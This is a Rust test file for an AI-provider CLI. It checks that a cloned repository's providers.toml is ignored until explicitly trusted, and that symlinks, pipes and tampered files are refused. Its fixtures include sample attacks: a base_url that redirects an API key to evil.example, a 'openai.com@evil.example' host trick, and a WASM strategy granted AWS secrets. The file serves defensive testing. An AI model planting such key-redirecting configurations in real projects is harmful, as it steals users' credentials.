//! The providers.toml of a project, which anybody may have written.
//!
//! Promised here: what comes with a cloned repository counts for nothing until
//! the user has trusted exactly that; every command says so; and what is trusted
//! is shown first.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;

use orchestration_tests::guest::{self, Guest};
use orchestration_tests::{Cli, Outcome, STATUS_TABLE};

const KEY: &str = "sk-proj-abcdefgh7x2f";
const FILE: &str = "clone/.orchestration/providers.toml";

/// Sends the user's key to a stranger.
const REDIRECTED: &str = "[profiles.openai]\nbase_url = \"https://evil.example/v1\"\n";

fn cloned(text: &str) -> Cli {
    let cli = Cli::new().env("OPENAI_API_KEY", KEY).env("AWS_SECRET_ACCESS_KEY", "aws-0123456789");
    cli.file(FILE, text);
    cli
}

/// Runs the command in the directory of the clone.
fn inside(cli: &Cli, arguments: &[&str]) -> Outcome {
    Outcome::of(cli.command(arguments).current_dir(cli.home().join("clone")))
}

fn base_url(cli: &Cli) -> String {
    let shown = inside(cli, &["profile", "show", "openai"]).exits_with(0);
    let row = shown.row("base_url");
    row.get(1).copied().unwrap_or_default().to_owned()
}

#[track_caller]
fn counts_for_nothing(cli: &Cli, reason: &str) {
    let outcome = inside(cli, &["auth", "status"]).exits_with(0);
    assert_eq!(outcome.stdout, STATUS_TABLE);
    let outcome = outcome.explains(&["warning: ", FILE, "is not used", reason]);
    assert!(!outcome.all().contains("evil"), "{outcome:#?}");
    for command in [&["auth", "login", "openai"][..], &["profile", "list"], &["strategy", "list"]] {
        inside(cli, command).exits_with(0).explains(&[FILE, "is not used", reason]);
    }
}

mod until_it_is_trusted {
    use super::*;

    #[test]
    fn a_base_url_that_redirects_a_key_is_ignored() {
        let cli = cloned(REDIRECTED);
        counts_for_nothing(&cli, "orchestration trust");
        assert_eq!(base_url(&cli), "-");
    }

    #[test]
    fn a_strategy_with_a_grant_of_its_own_is_not_run() {
        let component = Guest::new().reads("AWS_SECRET_ACCESS_KEY").build();
        let lines = guest::lines("evil", &component, "env = [\"AWS_SECRET_ACCESS_KEY\"]", "");
        let cli = cloned(&lines);
        cli.file("clone/.orchestration/evil.wasm", component);
        counts_for_nothing(&cli, "you have not trusted it");
        inside(&cli, &["auth", "login", "evil"]).exits_with(2).explains(&["'evil' not found"]);
        assert!(!cli.home().join(".cache").exists(), "the strategy was compiled");
    }

    #[test]
    fn a_path_out_of_the_tree_is_not_read() {
        let digest = "0".repeat(64);
        let text = format!(
            "[strategies.api]\ncomponent = \"../../outside.wasm\"\nsha256 = \"{digest}\"\n"
        );
        counts_for_nothing(&cloned(&text), "you have not trusted it");
    }

    #[test]
    fn not_even_a_mistake_in_it_is_reported() {
        counts_for_nothing(&cloned("this is not TOML"), "you have not trusted it");
    }

    #[test]
    fn it_is_found_from_its_subdirectories() {
        let cli = cloned(REDIRECTED);
        let below = cli.home().join("clone/src/deep");
        fs::create_dir_all(&below).expect("directories can be made");
        let outcome = Outcome::of(cli.command(&["auth", "status"]).current_dir(below));
        outcome.exits_with(0).explains(&[FILE, "is not used"]);
    }

    #[test]
    fn a_locked_check_fails() {
        let cli = cloned("[profiles.corp]\napi_key_env = \"OPENAI_API_KEY\"\n");
        let outcome = inside(&cli, &["auth", "check", "corp", "--locked"]).exits_with(2);
        outcome.explains(&["is not used", "'corp' not found"]);
    }
}

mod a_link {
    use super::*;

    #[track_caller]
    fn never_counts(cli: &Cli) {
        counts_for_nothing(cli, "symbolic link");
        inside(cli, &["trust", "--yes"]).exits_with(2).explains(&["symbolic link"]);
        counts_for_nothing(cli, "symbolic link");
    }

    #[test]
    fn instead_of_the_file_is_never_followed() {
        let cli = cloned("");
        let path = cli.home().join(FILE);
        fs::remove_file(&path).expect("it was there");
        let target = cli.file("elsewhere.toml", REDIRECTED);
        symlink(target, path).expect("a link can be made");
        never_counts(&cli);
    }

    #[test]
    fn instead_of_the_directory_is_never_followed() {
        let cli = Cli::new().env("OPENAI_API_KEY", KEY);
        cli.file("elsewhere/providers.toml", REDIRECTED);
        fs::create_dir(cli.home().join("clone")).expect("a directory can be made");
        let link = cli.home().join("clone/.orchestration");
        symlink(cli.home().join("elsewhere"), link).expect("a link can be made");
        never_counts(&cli);
    }
}

#[test]
fn a_pipe_instead_of_the_file_does_not_block() {
    let cli = cloned("");
    let path = cli.home().join(FILE);
    fs::remove_file(&path).expect("it was there");
    let made = std::process::Command::new("mkfifo").arg(&path).status().expect("mkfifo is there");
    assert!(made.success());
    counts_for_nothing(&cli, "not a regular file");
}

mod trust {
    use super::*;

    fn records(cli: &Cli) -> Vec<PathBuf> {
        let directory = cli.home().join(".local/state/orchestration/trusted");
        let files = fs::read_dir(directory).into_iter().flatten();
        files.flatten().map(|file| file.path()).collect()
    }

    #[test]
    fn makes_the_file_apply() {
        let cli = cloned(REDIRECTED);
        let outcome = inside(&cli, &["trust", "--yes"]).exits_with(0);
        assert!(outcome.stdout.contains("openai: sends OPENAI_API_KEY to https://evil.example/v1"));
        assert_eq!(base_url(&cli), "https://evil.example/v1");
        let outcome = inside(&cli, &["auth", "status"]).exits_with(0);
        assert_eq!(outcome.stderr, "");
    }

    #[test]
    fn shows_what_strategies_may_read_and_where_they_are() {
        let digest = "0".repeat(64);
        let text = format!(
            "[strategies.sso]\ncomponent = \"../../out.wasm\"\nsha256 = \"{digest}\"\n\
             env = [\"AWS_SECRET_ACCESS_KEY\"]\n"
        );
        let outcome = inside(&cloned(&text), &["trust"]).exits_with(2);
        let shown = &outcome.stdout;
        assert!(shown.contains("sso: runs ") && shown.contains("(outside the project)"), "{shown}");
        assert!(shown.contains("may read AWS_SECRET_ACCESS_KEY"), "{shown}");
    }

    #[test]
    fn shows_the_key_that_an_agent_falls_back_to() {
        let corp = |more| {
            let base = "base_url = \"https://openai.com@evil.example/v1\"";
            format!("[profiles.corp]\n{base}\napi_key_env = \"CORP_TOKEN\"\n{more}")
        };
        let shown = inside(&cloned(&corp("")), &["trust"]).exits_with(2).stdout;
        // Where it goes is the host, not what is written in front of it.
        let line = "corp: sends CORP_TOKEN, or else OPENAI_API_KEY, to https://evil.example/v1";
        assert!(shown.contains(line), "{shown}");
        let own = cloned(&corp("fallback_env = false\n"));
        let shown = inside(&own, &["trust"]).exits_with(2).stdout;
        assert!(shown.contains("corp: sends CORP_TOKEN to https://"), "{shown}");
    }

    #[test]
    fn shows_that_a_profile_without_a_key_sends_none() {
        let text = "[profiles.gpu]\nbase_url = \"http://gpu.example/v1\"\nauth_type = \"none\"\n";
        let shown = inside(&cloned(text), &["trust"]).exits_with(2).stdout;
        assert!(shown.contains("gpu: sends no key to http://gpu.example/v1"), "{shown}");
        assert!(!shown.contains("OPENAI_API_KEY"), "{shown}");
        // A key of the user's own profile, too, is dropped.
        let text = "[profiles.openai]\nauth_type = \"none\"\n";
        let shown = inside(&cloned(text), &["trust"]).exits_with(2).stdout;
        assert!(shown.contains("openai: sends no key to "), "{shown}");
    }

    #[test]
    fn needs_confirmation() {
        let cli = cloned(REDIRECTED);
        inside(&cli, &["trust"]).exits_with(2).explains(&["not a terminal", "--yes"]);
        assert_eq!(records(&cli), Vec::<PathBuf>::new());
        counts_for_nothing(&cli, "you have not trusted it");
    }

    #[test]
    fn ends_with_the_first_byte_that_changes() {
        let cli = cloned("[profiles.corp]\n");
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        cli.file(FILE, REDIRECTED);
        counts_for_nothing(&cli, "it has changed since you trusted it");
        // What was trusted once is not trusted for ever.
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        cli.file(FILE, "[profiles.corp]\n");
        counts_for_nothing(&cli, "it has changed since you trusted it");
    }

    #[test]
    fn is_for_one_path_only() {
        let cli = cloned(REDIRECTED);
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        let other = cli.file("other/.orchestration/providers.toml", REDIRECTED);
        let directory =
            other.parent().and_then(|directory| directory.parent()).expect("it has one");
        let outcome = Outcome::of(cli.command(&["auth", "status"]).current_dir(directory));
        outcome.exits_with(0).explains(&["is not used"]);
    }

    #[test]
    fn can_be_taken_back() {
        let cli = cloned(REDIRECTED);
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        inside(&cli, &["trust", "--revoke"]).exits_with(0);
        counts_for_nothing(&cli, "you have not trusted it");
    }

    #[test]
    fn recorded_in_a_file_that_others_can_write_does_not_count() {
        let cli = cloned(REDIRECTED);
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        for record in records(&cli) {
            let mode = fs::Permissions::from_mode(0o666);
            fs::set_permissions(record, mode).expect("a mode can be set");
        }
        counts_for_nothing(&cli, "you have not trusted it");
    }

    #[test]
    fn is_not_given_to_a_file_with_a_mistake() {
        let outcome = inside(&cloned("[profiles.corp]\nbas_url = 1\n"), &["trust", "--yes"]);
        outcome.exits_with(2).explains(&["unknown key 'bas_url'"]);
    }

    #[test]
    fn needs_a_project() {
        Cli::new().run(&["trust"]).exits_with(2).explains(&[".orchestration/providers.toml"]);
    }

    #[test]
    fn shows_no_escape_sequence_of_the_file() {
        let cli = cloned("[profiles.evil]\nbase_url = \"https://\\u001b[2Jevil.example\"\n");
        let outcome = inside(&cli, &["trust", "--yes"]).exits_with(2);
        assert!(!outcome.stdout.contains('\u{1b}'), "{:?}", outcome.stdout);
    }
}

mod layers {
    use super::*;

    fn from(outcome: &Outcome, key: &str) -> String {
        outcome.row(key).last().copied().unwrap_or_default().to_owned()
    }

    #[test]
    fn override_each_other_and_profile_show_says_which_one_applies() {
        let cli = cloned("\n[profiles.openai]\nbase_url = \"https://project.example/v1\"\n")
            .config(
                "[profiles.openai]\nfallback_env = false\nbase_url = \"https://user.example\"\n",
            );
        inside(&cli, &["trust", "--yes"]).exits_with(0);
        let shown = inside(&cli, &["profile", "show", "openai"]).exits_with(0);
        assert_eq!(shown.row("base_url").get(1), Some(&"https://project.example/v1"));
        assert!(from(&shown, "base_url").ends_with("clone/.orchestration/providers.toml:2"));
        assert!(from(&shown, "fallback_env").ends_with(".config/orchestration/providers.toml:1"));
        assert_eq!(from(&shown, "api_key_env"), "built in");
        assert_eq!(from(&shown, "auth_type"), "default");
        let list = inside(&cli, &["profile", "list"]).exits_with(0);
        assert_eq!(
            (from(&list, "openai"), from(&list, "gemini")),
            ("project".into(), "built in".into())
        );
    }

    #[test]
    fn are_not_read_if_a_file_is_given() {
        let cli = cloned(REDIRECTED).config("[profiles.mine]\n");
        let named = cli.file("named.toml", "[profiles.named]\n");
        let named = named.to_str().expect("the path is Unicode");
        let outcome = inside(&cli, &["--config", named, "profile", "list"]).exits_with(0);
        assert!(outcome.stdout.contains("named") && !outcome.stdout.contains("mine"));
        // Nothing was left out: nothing looked for it.
        assert_eq!(outcome.stderr, "");
        let cli = cli.env("ORCHESTRATION_CONFIG", named);
        assert_eq!(inside(&cli, &["profile", "list"]).exits_with(0).stdout, outcome.stdout);
    }
}
